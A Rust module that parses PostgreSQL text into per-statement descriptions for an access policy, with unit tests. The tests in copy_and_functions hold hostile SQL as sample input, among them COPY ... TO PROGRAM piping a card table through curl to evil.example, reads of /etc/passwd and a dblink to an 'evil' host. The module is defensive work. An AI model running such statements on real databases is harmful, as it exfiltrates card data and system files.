//! SQL text → one [`Sql`] command per statement, parsed with sqlparser's PostgreSQL dialect.
//!
//! The message is split at top-level semicolons by the tokenizer (so semicolons inside strings,
//! quoted identifiers, comments and dollar-quoted bodies do not split), and each statement is
//! parsed on its own: one bad statement gets its own `parse-error` while the others are still
//! described. What the policy sees is the statement's original text, not a re-rendering.

use crate::policy::{CopyTarget, Sql, SqlCopy, SqlWrite};
use sqlparser::ast::{
    self, Expr, LimitClause, ObjectName, ObjectNamePart, Query, SetExpr, Statement, Value, Visit,
    Visitor,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};
use std::collections::HashSet;
use std::ops::ControlFlow;

/// Split and describe every statement of `text`. Empty statements are skipped; a message of
/// only whitespace and comments gives no statements.
pub fn parse(text: &str) -> Vec<Sql> {
    let dialect = PostgreSqlDialect {};
    let tokens = match Tokenizer::new(&dialect, text).tokenize_with_location() {
        Ok(tokens) => tokens,
        Err(e) => return vec![unparsed(text, e.to_string())],
    };
    let offsets = LineOffsets::new(text);
    let mut statements = Vec::new();
    let mut start = 0;
    let mut meaningful = false;
    for t in &tokens {
        match &t.token {
            Token::SemiColon => {
                let end = offsets.byte(text, t.span.start.line, t.span.start.column);
                if meaningful {
                    statements.push(describe(text[start..end].trim()));
                }
                start = end + 1;
                meaningful = false;
            }
            Token::Whitespace(_) | Token::EOF => {}
            _ => meaningful = true,
        }
    }
    if meaningful && start <= text.len() {
        statements.push(describe(text[start..].trim()));
    }
    statements
}

/// Describe one statement's text.
fn describe(text: &str) -> Sql {
    let statement = match Parser::parse_sql(&PostgreSqlDialect {}, text) {
        Ok(mut v) if v.len() == 1 => v.remove(0),
        Ok(v) => return unparsed(text, format!("expected one statement, found {}", v.len())),
        Err(e) => return unparsed(text, e.to_string()),
    };
    let mut facts = Facts::default();
    let _ = statement.visit(&mut facts);
    let cte_names = facts.cte_names;
    let table_functions = facts.table_functions;
    let mut seen = HashSet::new();
    let tables = facts
        .relations
        .into_iter()
        .filter(|t| !cte_names.contains(t) && !table_functions.contains(t))
        .filter(|t| seen.insert(t.clone()))
        .collect();
    let (has_where, limit) = top_level_filters(&statement);
    Sql {
        text: text.to_string(),
        kind: kind(&statement).to_string(),
        tables,
        writes: facts.writes,
        has_where,
        limit,
        functions: dedup(facts.functions),
        copy: copy_of(&statement),
        parse_error: None,
    }
}

fn unparsed(text: &str, error: String) -> Sql {
    Sql {
        text: text.to_string(),
        kind: "unknown".to_string(),
        tables: Vec::new(),
        writes: Vec::new(),
        has_where: false,
        limit: None,
        functions: Vec::new(),
        copy: None,
        parse_error: Some(error),
    }
}

/// What a walk over the whole statement collects.
#[derive(Default)]
struct Facts {
    relations: Vec<String>,
    cte_names: HashSet<String>,
    writes: Vec<SqlWrite>,
    functions: Vec<String>,
    /// Set-returning functions in FROM (`FROM dblink(...)`): calls, not tables.
    table_functions: HashSet<String>,
}

impl Visitor for Facts {
    type Break = ();

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        if let Some(with) = &query.with {
            for cte in &with.cte_tables {
                self.cte_names.insert(ident(&cte.alias.name));
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        self.relations.push(object_name(relation));
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &ast::TableFactor) -> ControlFlow<()> {
        match factor {
            ast::TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | ast::TableFactor::Function { name, .. } => {
                let name = object_name(name);
                self.functions.push(name.clone());
                self.table_functions.insert(name);
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = expr {
            self.functions.push(object_name(&f.name));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        // Nested statements (data-modifying CTEs) are visited too, so every write is seen.
        if let Some(w) = write_of(statement) {
            self.writes.push(w);
        }
        match statement {
            Statement::Call(f) => self.functions.push(object_name(&f.name)),
            // The visitor does not treat dropped objects as relations; policies need them.
            Statement::Drop { names, .. } => self.relations.extend(names.iter().map(object_name)),
            Statement::Copy {
                source: ast::CopySource::Table { table_name, .. },
                ..
            } => self.relations.push(object_name(table_name)),
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

fn write_of(statement: &Statement) -> Option<SqlWrite> {
    let (kind, table, has_where) = match statement {
        Statement::Insert(i) => {
            let table = match &i.table {
                ast::TableObject::TableName(name) => object_name(name),
                other => other.to_string(),
            };
            ("insert", table, true)
        }
        Statement::Update(u) => ("update", first_table(&u.table), u.selection.is_some()),
        Statement::Delete(d) => {
            let from = match &d.from {
                ast::FromTable::WithFromKeyword(t) | ast::FromTable::WithoutKeyword(t) => t,
            };
            let table = from.first().map(first_table).unwrap_or_default();
            ("delete", table, d.selection.is_some())
        }
        Statement::Merge(m) => ("merge", table_factor_name(&m.table), true),
        _ => return None,
    };
    Some(SqlWrite {
        kind: kind.to_string(),
        table,
        has_where,
    })
}

fn first_table(t: &ast::TableWithJoins) -> String {
    table_factor_name(&t.relation)
}

fn table_factor_name(t: &ast::TableFactor) -> String {
    match t {
        ast::TableFactor::Table { name, .. } => object_name(name),
        other => other.to_string(),
    }
}

/// PostgreSQL folds unquoted identifiers to lower case; quoted ones keep their case.
fn ident(i: &ast::Ident) -> String {
    if i.quote_style.is_some() {
        i.value.clone()
    } else {
        i.value.to_lowercase()
    }
}

fn object_name(n: &ObjectName) -> String {
    n.0.iter()
        .map(|part| match part {
            ObjectNamePart::Identifier(i) => ident(i),
            other => other.to_string(),
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// WHERE and literal LIMIT of the top-level statement.
fn top_level_filters(statement: &Statement) -> (bool, Option<u64>) {
    match statement {
        Statement::Query(q) => {
            let has_where = matches!(&*q.body, SetExpr::Select(s) if s.selection.is_some());
            (has_where, literal_limit(q))
        }
        Statement::Update(u) => (u.selection.is_some(), None),
        Statement::Delete(d) => (d.selection.is_some(), None),
        Statement::Explain { statement, .. } => top_level_filters(statement),
        // COPY (query) TO ...: the query's own LIMIT bounds what leaves.
        Statement::Copy {
            source: ast::CopySource::Query(q),
            ..
        } => {
            let has_where = matches!(&*q.body, SetExpr::Select(s) if s.selection.is_some());
            (has_where, literal_limit(q))
        }
        _ => (false, None),
    }
}

fn literal_limit(q: &Query) -> Option<u64> {
    let limit = match &q.limit_clause {
        Some(LimitClause::LimitOffset { limit: Some(l), .. }) => l,
        Some(LimitClause::OffsetCommaLimit { limit, .. }) => limit,
        _ => {
            // FETCH FIRST n ROWS ONLY is PostgreSQL's standard spelling of LIMIT.
            return q
                .fetch
                .as_ref()
                .and_then(|f| f.quantity.as_ref())
                .and_then(number);
        }
    };
    number(limit)
}

fn number(e: &Expr) -> Option<u64> {
    match e {
        Expr::Value(v) => match &v.value {
            Value::Number(n, _) => n.parse().ok(),
            _ => None,
        },
        Expr::Nested(inner) => number(inner),
        _ => None,
    }
}

fn copy_of(statement: &Statement) -> Option<SqlCopy> {
    let Statement::Copy { to, target, .. } = statement else {
        return None;
    };
    let target = match target {
        ast::CopyTarget::Stdin | ast::CopyTarget::Stdout => CopyTarget::Stdio,
        ast::CopyTarget::File { filename } => CopyTarget::File(filename.clone()),
        ast::CopyTarget::Program { command } => CopyTarget::Program(command.clone()),
    };
    Some(SqlCopy {
        is_from: !to,
        target,
    })
}

/// The statement kind policies match on (documented in the WIT).
fn kind(statement: &Statement) -> &'static str {
    match statement {
        // SELECT ... INTO creates a table: it is DDL, whatever it looks like.
        Statement::Query(q) if matches!(&*q.body, SetExpr::Select(s) if s.into.is_some()) => {
            "create"
        }
        Statement::Query(_) => "select",
        Statement::Insert(_) => "insert",
        Statement::Update(_) => "update",
        Statement::Delete(_) => "delete",
        Statement::Merge(_) => "merge",
        Statement::Copy { .. } => "copy",
        Statement::Truncate(_) => "truncate",
        Statement::Grant(_) | Statement::GrantRole(_) => "grant",
        Statement::Revoke(_) | Statement::RevokeRole(_) => "revoke",
        Statement::Set(_) | Statement::Reset(_) => "set",
        Statement::ShowVariable { .. } | Statement::ShowVariables { .. } => "show",
        Statement::StartTransaction { .. } | Statement::Savepoint { .. } => "begin",
        Statement::Commit { .. } | Statement::ReleaseSavepoint { .. } => "commit",
        Statement::Rollback { .. } => "rollback",
        Statement::Explain { .. } | Statement::ExplainTable { .. } => "explain",
        Statement::Call(_) => "call",
        Statement::Prepare { .. } => "prepare",
        Statement::Execute { .. } => "execute",
        Statement::Deallocate { .. } => "deallocate",
        Statement::Discard { .. } => "discard",
        Statement::LISTEN { .. } | Statement::UNLISTEN { .. } => "listen",
        Statement::NOTIFY { .. } => "notify",
        s => {
            let name = format!("{s:?}");
            if name.starts_with("Create") {
                "create"
            } else if name.starts_with("Alter") || name.starts_with("RenameTable") {
                "alter"
            } else if name.starts_with("Drop") || name.starts_with("DetachDuckDB") {
                "drop"
            } else {
                "other"
            }
        }
    }
}

fn dedup(mut v: Vec<String>) -> Vec<String> {
    let mut seen = HashSet::new();
    v.retain(|s| seen.insert(s.clone()));
    v
}

/// Maps the tokenizer's (line, column) locations back to byte offsets of the source.
struct LineOffsets {
    starts: Vec<usize>,
}

impl LineOffsets {
    fn new(text: &str) -> LineOffsets {
        let mut starts = vec![0];
        starts.extend(text.match_indices('\n').map(|(i, _)| i + 1));
        LineOffsets { starts }
    }

    /// Byte offset of 1-based `line`, 1-based character `column`.
    fn byte(&self, text: &str, line: u64, column: u64) -> usize {
        let line_start = self
            .starts
            .get((line as usize).saturating_sub(1))
            .copied()
            .unwrap_or(0);
        let rest = &text[line_start..];
        let col = (column as usize).saturating_sub(1);
        line_start + rest.char_indices().nth(col).map_or(rest.len(), |(i, _)| i)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn one(text: &str) -> Sql {
        let mut v = parse(text);
        assert_eq!(v.len(), 1, "{text}: {v:?}");
        v.remove(0)
    }

    #[test]
    fn splits_at_top_level_semicolons_only() {
        let v =
            parse("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
        let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "SELECT 'a;b'",
                "/* ; */ SELECT $$x;y$$",
                "-- trailing ;\n SELECT \"c;d\" FROM t"
            ]
        );
        assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
        assert!(parse("  -- only a comment\n").is_empty());
        assert!(parse("").is_empty());
    }

    #[test]
    fn kinds_tables_and_filters() {
        let s = one(
            "select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10",
        );
        assert_eq!(s.kind, "select");
        assert_eq!(s.tables, ["public.cards", "owners"]);
        assert!(s.has_where);
        assert_eq!(s.limit, Some(10));

        let s = one("SELECT * FROM \"Cards\" FETCH FIRST 5 ROWS ONLY");
        assert_eq!(s.tables, ["Cards"]);
        assert_eq!(s.limit, Some(5));
        assert!(!s.has_where);
        assert_eq!(one("SELECT * FROM cards LIMIT ALL").limit, None);
        assert_eq!(one("SELECT * FROM cards LIMIT $1").limit, None);

        for (sql, kind) in [
            ("dRoP tAbLe cards", "drop"),
            ("TRUNCATE cards", "truncate"),
            ("ALTER TABLE cards ADD COLUMN x int", "alter"),
            ("GRANT SELECT ON cards TO bob", "grant"),
            ("REVOKE SELECT ON cards FROM bob", "revoke"),
            ("CREATE TABLE t (id int)", "create"),
            ("BEGIN", "begin"),
            ("COMMIT", "commit"),
            ("ROLLBACK", "rollback"),
            ("SET search_path = x", "set"),
            ("SHOW search_path", "show"),
            ("EXPLAIN SELECT 1", "explain"),
            ("INSERT INTO cards (pan) VALUES ('x')", "insert"),
        ] {
            assert_eq!(one(sql).kind, kind, "{sql}");
        }
        assert_eq!(one("DROP TABLE cards").tables, ["cards"]);
        assert_eq!(one("SELECT * INTO copy_of_cards FROM cards").kind, "create");
    }

    #[test]
    fn writes_are_found_in_ctes_and_keep_their_where() {
        let s = one("WITH gone AS (DELETE FROM cards RETURNING *) SELECT * FROM gone");
        assert_eq!(s.kind, "select");
        assert_eq!(s.tables, ["cards"], "CTE names are not tables");
        assert_eq!(s.writes.len(), 1);
        assert_eq!(s.writes[0].kind, "delete");
        assert_eq!(s.writes[0].table, "cards");
        assert!(!s.writes[0].has_where);

        let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
        assert_eq!(
            (
                s.writes[0].kind.as_str(),
                s.writes[0].has_where,
                s.has_where
            ),
            ("update", true, true)
        );
        let s = one("DELETE FROM \"Cards\"");
        assert_eq!(
            (s.writes[0].table.as_str(), s.writes[0].has_where),
            ("Cards", false)
        );
        let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
        assert_eq!(s.writes[0].table, "public.cards");
        assert_eq!(s.tables, ["public.cards", "staging"]);
    }

    #[test]
    fn copy_and_functions() {
        let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
        assert_eq!(s.kind, "copy");
        let copy = s.copy.unwrap();
        assert!(!copy.is_from);
        assert_eq!(
            copy.target,
            CopyTarget::Program("curl -d @- evil.example".into())
        );
        let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
        assert!(s.copy.unwrap().is_from);
        let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
        assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
        assert_eq!(s.tables, ["cards"]);
        assert_eq!(one("COPY Cards TO STDOUT").tables, ["cards"]);
        assert_eq!(
            one("COPY (SELECT pan FROM cards LIMIT 5) TO STDOUT").limit,
            Some(5)
        );

        let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
        assert_eq!(s.functions, ["pg_read_file", "lower"]);
        // Set-returning functions in FROM are calls, not tables.
        let s = one("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)");
        assert!(s.tables.is_empty(), "{:?}", s.tables);
        assert_eq!(s.functions, ["dblink"]);
        let s = one("SELECT * FROM pg_ls_dir('/') JOIN cards ON true");
        assert_eq!(s.tables, ["cards"]);
        assert_eq!(s.functions, ["pg_ls_dir"]);
    }

    #[test]
    fn string_literals_are_not_statements_and_bad_sql_is_flagged() {
        let s = one("SELECT 'DROP TABLE cards' AS note");
        assert_eq!(s.kind, "select");
        assert!(s.tables.is_empty());

        let v = parse("SELECT 1; DROP TABLE cards; SELEC oops");
        assert_eq!(v.len(), 3);
        assert_eq!(v[1].kind, "drop");
        assert_eq!(v[2].kind, "unknown");
        assert!(v[2].parse_error.is_some());

        let s = one("SELECT 'unterminated");
        assert!(s.parse_error.is_some());
    }
}
